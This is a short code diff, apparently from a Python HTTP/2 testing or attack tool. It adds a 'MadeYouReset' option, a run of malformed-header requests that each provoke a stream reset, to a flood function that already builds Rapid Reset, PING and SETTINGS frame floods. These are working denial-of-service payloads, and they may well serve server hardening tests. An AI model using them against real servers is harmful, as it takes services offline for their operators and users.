@@ -48,6 +48,10 @@ def flood(kind: str, count: int) -> bytes:
             stream_id = 2 * index + 1
             parts.append(frame(HEADERS, END_HEADERS, stream_id, request_block(encoder)))
             parts.append(frame(RST_STREAM, 0, stream_id, b"\x00\x00\x00\x08"))
+    elif kind == "malformed requests":  # each answered with RST_STREAM PROTOCOL_ERROR ("MadeYouReset")
+        for index in range(count):
+            block = request_block(encoder, extra=[("X-Upper-Case", "1")])
+            parts.append(frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, block))
     elif kind == "PING":
         parts += [frame(PING, 0, 0, index.to_bytes(8, "big")) for index in range(count)]
     elif kind == "SETTINGS":
